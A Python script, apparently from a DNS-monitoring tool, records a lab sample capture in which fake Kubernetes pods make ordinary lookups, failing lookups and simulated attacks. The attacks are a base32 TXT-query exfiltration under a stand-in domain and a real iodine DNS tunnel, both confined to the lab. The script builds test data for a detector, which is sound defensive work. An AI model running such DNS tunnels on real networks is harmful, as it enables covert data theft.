"""Record the bundled sample capture ``samples/incident`` in the lab (run as root).

The story (about 40 s, see samples/README.md): a few fake pods, under both kubelet cgroup
layouts, run real resolvers (glibc ``getent``, a static musl binary, a pure-Go binary, dig)
in their own network namespaces against the lab's dnsmasq while ``dnstrail record`` traces
the node:

- shop/frontend (glibc, ndots:5): ordinary lookups of cluster services, and a typo'd service
  name that keeps failing (NXDOMAIN);
- shop/checkout (musl, ndots:5): resolves the external ``api.stripe.com``, walking the
  search list first (3 NXDOMAIN pairs per lookup), then connects to it;
- payments/cart (Go, no cache): asks for ``redis.payments.svc.cluster.local`` every 100 ms
  although the answer has a 30 s TTL;
- payments/ledger (glibc): its resolv.conf names a dead server: every query times out;
- default/debug-shell: connects to a hard-coded IP without any DNS lookup;
- batch/report-gen: a tunnel-like client exfiltrating a CSV as base32 labels in TXT queries
  under ``t.cdn-telemetry-sync.net``;
- monitoring/prometheus (dig): SRV lookups;
- marketing/wordpress: a real iodine DNS tunnel (``Lab.iodine_tunnel``: iodined in the lab's
  server namespace, the iodine client in this pod) carrying 4 KB under
  ``t.wp-cache-relay.org``;
- payments/cart, second container ``datadog-agent`` (a sidecar a Helm change injected, the
  story of issue 16): more than 30 s into the capture (after the analyzer's warm-up) it
  resolves ``intake.metrics-collector.example``, a domain nothing asked before, and connects
  to the answer at once.

Nothing leaves the lab: the namespaces have no route out and dnsmasq has no upstream.

Usage::

    sudo .venv/bin/python samples/make_sample.py            # writes samples/incident
    sudo .venv/bin/python samples/make_sample.py -o /tmp/x  # somewhere else
"""

from __future__ import annotations

import argparse
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "samples"))

from tunnel_client import tunnel_names

from tests.lab import Lab

TUNNEL_DOMAIN = "t.cdn-telemetry-sync.net"
TUNNEL_COUNT = 90
IODINE_DOMAIN = "t.wp-cache-relay.org"
IODINE_BYTES = 4096
INTAKE_DOMAIN = "intake.metrics-collector.example"
INTAKE_ADDR = "10.213.0.90"  # a lab service address (tests/lab/lab.py SERVICE_ADDRS)
SIDECAR = "datadog-agent"
#: new_domain_connect ignores names first asked within its warm-up (30 s) of the capture's
#: first query; the sidecar asks this long after the first query of the story.
SIDECAR_AT_S = 36.0
#: Fixed pod uids, so that a re-recorded sample names its pods as before
#: (tests/test_pod_selector.py uses them); cgroup and container ids and pids are new each time.
UIDS = {
    "frontend": "7e83d6f0-73b2-4da3-bf41-ccc04304b094",
    "checkout": "bb0077d5-9761-4a8b-86e7-0727dcdbe6bb",
    "cart": "a53dc830-8927-4093-8222-52d84a644aa2",
    "ledger": "7a8546a9-5d13-4963-9daa-9a1568bd2d3b",
    "debug": "f74bdda7-a489-4046-82cb-43e63b324871",
    "report": "cc84d5b9-511d-466e-a18b-380b2d2668ee",
    "prometheus": "439c29bf-1995-4c12-a319-793056d89f89",
    "wordpress": "5d0c8e2a-6b1f-4c3e-9a7d-2f4e81b3c6a9",
}
DNSTRAIL = REPO / ".venv" / "bin" / "dnstrail"
SEARCH = ("{ns}.svc.cluster.local", "svc.cluster.local", "cluster.local")


def _search(ns: str) -> list[str]:
    return [s.format(ns=ns) for s in SEARCH]


def story_zone() -> dict[str, list[tuple[str, str]]]:
    zone: dict[str, list[tuple[str, str]]] = {
        "redis.payments.svc.cluster.local": [("A", "10.213.0.81")],
        "db.payments.svc.cluster.local": [("A", "10.213.0.81")],
        "cart.payments.svc.cluster.local": [("A", "10.213.0.81")],
        "api.stripe.com": [("A", "10.213.0.80")],
        "catalog.shop.svc.cluster.local": [("A", "10.213.0.80")],
        INTAKE_DOMAIN: [("A", INTAKE_ADDR)],
    }
    for name, reply in tunnel_names(TUNNEL_DOMAIN, TUNNEL_COUNT):
        zone[name] = [("TXT", reply)]
    return zone


class Recorder:
    """dnstrail record as a subprocess; started() waits for its start-up line."""

    def __init__(self, out: Path, args: list[str]) -> None:
        self.proc = subprocess.Popen([str(DNSTRAIL), "record", "-o", str(out), *args],
                                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                     text=True)
        self.lines: list[str] = []
        self._ready = threading.Event()
        self._t = threading.Thread(target=self._read, daemon=True)
        self._t.start()

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            self.lines.append(line.rstrip())
            print("  [record]", line.rstrip(), flush=True)
            if line.startswith("Tracing DNS"):
                self._ready.set()
        self._ready.set()

    def wait_started(self, timeout: float = 120) -> None:
        self._ready.wait(timeout)
        if self.proc.poll() is not None or not any(
                ln.startswith("Tracing DNS") for ln in self.lines):
            self.stop()
            raise SystemExit("dnstrail record did not start:\n" + "\n".join(self.lines[-20:]))

    def stop(self) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGINT)
        try:
            self.proc.wait(60)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(10)
        self._t.join(10)
        return self.proc.returncode


def play(lab: Lab, out: Path) -> set[int]:
    """Run the story while recording; return the cgroup ids of its pods."""
    step = lambda msg: print(f"[{time.strftime('%H:%M:%S')}] {msg}", flush=True)
    lab.tcp_listener(8080)
    srv = lab.server_addr
    ns = {
        "frontend": lab.client_ns(search=_search("shop"), ndots=5, timeout=1, attempts=2),
        "checkout": lab.client_ns(search=_search("shop"), ndots=5, timeout=1, attempts=2),
        "cart": lab.client_ns(search=_search("payments"), ndots=5, timeout=1, attempts=2),
        "ledger": lab.client_ns([lab.dead_addr], search=_search("payments"), ndots=5,
                                timeout=1, attempts=2),
        "debug": lab.client_ns(search=_search("default"), ndots=5, timeout=1, attempts=2),
        "report": lab.client_ns(search=_search("batch"), ndots=5, timeout=1, attempts=2),
        "prometheus": lab.client_ns(search=_search("monitoring"), ndots=5, timeout=1,
                                    attempts=2),
        "wordpress": lab.client_ns(search=_search("marketing"), ndots=5, timeout=1,
                                   attempts=2),
    }
    pods = {
        "frontend": lab.fake_pod("shop", "frontend-6d8f7c9b5-x2kqp", container="web",
                                 style="systemd", qos="burstable", uid=UIDS["frontend"]),
        "checkout": lab.fake_pod("shop", "checkout-5b7d9f6c4-m8wzr", container="checkout",
                                 style="cgroupfs", qos="burstable", uid=UIDS["checkout"]),
        "cart": lab.fake_pod("payments", "cart-7c6b8d5f9-q4vnt", container="cart",
                             style="systemd", qos="guaranteed", uid=UIDS["cart"]),
        "ledger": lab.fake_pod("payments", "ledger-0", container="ledger",
                               style="cgroupfs", qos="burstable", uid=UIDS["ledger"]),
        "debug": lab.fake_pod("default", "debug-shell", container="shell",
                              style="cgroupfs", qos="besteffort", uid=UIDS["debug"]),
        "report": lab.fake_pod("batch", "report-gen-28412-7hx2d", container="worker",
                               style="systemd", qos="besteffort", uid=UIDS["report"]),
        "prometheus": lab.fake_pod("monitoring", "prometheus-k8s-0", container="prometheus",
                                   style="systemd", qos="burstable", uid=UIDS["prometheus"]),
        "wordpress": lab.fake_pod("marketing", "wordpress-5f7d8c9b6-kx7pz",
                                  container="wordpress", style="cgroupfs", qos="burstable",
                                  uid=UIDS["wordpress"]),
    }
    # the sidecar: a second container (its own cgroup) of the cart pod, same network namespace
    pods["sidecar"] = lab.fake_container(pods["cart"], SIDECAR)
    musl, go = str(lab.musl_client), str(lab.go_client)
    # the agent's binary: the lab's Go client under the sidecar's name (its comm)
    agent = lab.tmp / SIDECAR
    shutil.copy2(go, agent)
    uids = list(dict.fromkeys(p.uid for p in pods.values()))
    rec = Recorder(out, ["--duration", "120s", "--pods-root", str(lab.pods_root),
                         "--pods-json", str(lab.pods_json),
                         *[a for u in uids for a in ("--pod", u)]])
    rec.wait_started()
    try:
        time.sleep(0.5)
        t0 = time.monotonic()
        step("cart (Go, no cache) starts hammering redis every 100 ms")
        hammer = lab.spawn(ns["cart"], [go, "-n", "120", "-interval", "100ms",
                                        "redis.payments.svc.cluster.local."], pod=pods["cart"])
        step("report-gen starts a tunnel-like TXT exfiltration")
        tunnel = lab.spawn(ns["report"], [sys.executable, str(REPO / "samples" /
                                                               "tunnel_client.py"),
                                          "--server", srv, "--domain", TUNNEL_DOMAIN,
                                          "--count", str(TUNNEL_COUNT), "--interval-ms", "110"],
                           pod=pods["report"])
        step("ledger's resolver is dead: lookups time out")
        dead = lab.spawn(ns["ledger"], ["getent", "ahosts", "db.payments.svc.cluster.local"],
                         pod=pods["ledger"])
        for rnd in range(3):
            step(f"frontend: ordinary lookups (round {rnd + 1})")
            for name in ("catalog", "web.shop", "kubernetes.default.svc.cluster.local."):
                lab.run(ns["frontend"], ["getent", "ahosts", name], pod=pods["frontend"])
            step("frontend: a typo'd service name keeps failing")
            for _ in range(4):
                lab.run(ns["frontend"], ["getent", "ahosts", "paymnets-api"],
                        pod=pods["frontend"])
            step("checkout (musl, ndots:5): api.stripe.com walks the search list, connects")
            lab.run(ns["checkout"], [musl, "--connect", "8080", "api.stripe.com"],
                    pod=pods["checkout"])
            step("prometheus: SRV lookup with dig")
            lab.run(ns["prometheus"], ["dig", f"@{srv}", "+time=1", "+tries=1",
                                       "_http._tcp.web.shop.svc.cluster.local", "SRV"],
                    pod=pods["prometheus"])
            step("debug-shell: connects to a hard-coded IP, no DNS")
            lab.run(ns["debug"], [sys.executable, "-c",
                                  ("import socket; socket.create_connection(('10.213.0.81', "
                                   "8080), timeout=2).close()")], pod=pods["debug"])
            time.sleep(2.0)
        step(f"wordpress: a real iodine tunnel under {IODINE_DOMAIN} ({IODINE_BYTES} bytes)")
        io = lab.iodine_tunnel(IODINE_DOMAIN, ns=ns["wordpress"], pod=pods["wordpress"],
                               size=IODINE_BYTES, timeout=40)
        step(f"  iodine: {io.bytes_received}/{io.bytes_sent} bytes in {io.seconds:.1f} s")
        if io.bytes_received != io.bytes_sent:
            raise SystemExit(f"the iodine tunnel carried {io.bytes_received} of "
                             f"{io.bytes_sent} bytes:\n{io.client_output}")
        for proc, what in ((hammer, "cart"), (tunnel, "tunnel"), (dead, "ledger")):
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                step(f"{what} still running: killed")
                proc.kill()
        wait = SIDECAR_AT_S - (time.monotonic() - t0)
        if wait > 0:
            step(f"quiet for {wait:.0f} s (past the new-domain warm-up)")
            time.sleep(wait)
        step(f"cart's {SIDECAR} sidecar resolves {INTAKE_DOMAIN} and connects at once")
        r = lab.run(ns["cart"], [str(agent), "-n", "1", "-connect", "8080",
                                 INTAKE_DOMAIN + "."], pod=pods["sidecar"])
        step(f"  {SIDECAR}: {r.stdout.strip()!r} (exit {r.returncode})")
        if f"CONNECT {INTAKE_ADDR} 8080 ok" not in r.stdout:
            raise SystemExit(f"the sidecar did not connect: {r.stdout} {r.stderr}")
        time.sleep(1.0)
    finally:
        code = rec.stop()
    if code != 0:
        raise SystemExit(f"dnstrail record exited {code}")
    return {p.cgroup_id for p in pods.values()}


def trim_to_pods(out: Path, cgroup_ids: set[int]) -> None:
    """Keep only the story's pods in the sample.

    The recorder applies --pod to DNS messages, but its connect and exec events and its /proc
    snapshot cover the whole node, which here means other people's processes and command
    lines: nothing a shipped sample should carry. Rows whose cgroup is not one of the story's
    pods are removed, files are rewritten, and the manifest (rows, bytes, sha256, counts) is
    updated and says so under filters.sample_trim.
    """
    import json

    import pyarrow as pa
    import pyarrow.compute as pc
    import pyarrow.parquet as pq

    from capture.schema import MANIFEST_NAME, read_manifest
    from capture.writer import COMPRESSION, sha256_file

    manifest = read_manifest(out)
    keep = pa.array(sorted(cgroup_ids), type=pa.uint64())
    counts = {k: 0 for k in manifest["counts"]}
    removed: dict[str, int] = {}
    for entry in manifest["files"]:
        path = out / entry["name"]
        table = pq.read_table(path)
        if "cgroup_id" in table.column_names:
            mask = pc.fill_null(pc.is_in(table.column("cgroup_id"), value_set=keep), False)
            kept = table.filter(mask)
            if kept.num_rows != table.num_rows:
                removed[entry["kind"]] = removed.get(entry["kind"], 0) + (
                    table.num_rows - kept.num_rows)
                pq.write_table(kept, path, compression=COMPRESSION)
            table = kept
        entry.update(rows=table.num_rows, bytes=path.stat().st_size, sha256=sha256_file(path))
        if entry["kind"] in counts:
            counts[entry["kind"]] += table.num_rows
    manifest["counts"] = counts
    manifest["filters"]["sample_trim"] = (
        "samples/make_sample.py kept only rows of the story's pods (cgroup ids "
        f"{sorted(cgroup_ids)}); removed: {removed}")
    (out / MANIFEST_NAME).write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"trimmed rows outside the story's pods: {removed}")


def summarize(out: Path) -> None:
    from analyze import load

    cap = load(out)
    print(cap)
    m = cap.messages
    print(m.groupby(["namespace", "pod"], dropna=False).size().to_string())
    for f in cap.findings():
        print(f"  {f.severity:6} {f.kind:22} {f.namespace}/{f.pod} [{f.container} {f.comm}]"
              f" {f.domain or ''}")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-o", "--output", type=Path, default=REPO / "samples" / "incident")
    args = ap.parse_args(argv)
    if os.geteuid() != 0:
        ap.error("run as root (network namespaces, cgroups and eBPF)")
    out: Path = args.output
    if out.exists():
        if not (out / "manifest.json").exists() and any(out.iterdir()):
            ap.error(f"{out} exists and is not a capture: not removing it")
        shutil.rmtree(out)
    with Lab(zone=story_zone(), ttl=30) as lab:
        pod_cgroups = play(lab, out)
    trim_to_pods(out, pod_cgroups)
    # The recorder writes 0700/0600 (evidence); the bundled sample is meant to be read.
    os.chmod(out, 0o755)
    for f in out.iterdir():
        os.chmod(f, 0o644)
    size = sum(f.stat().st_size for f in out.iterdir())
    print(f"wrote {out} ({size / 1024:.0f} KB)")
    summarize(out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
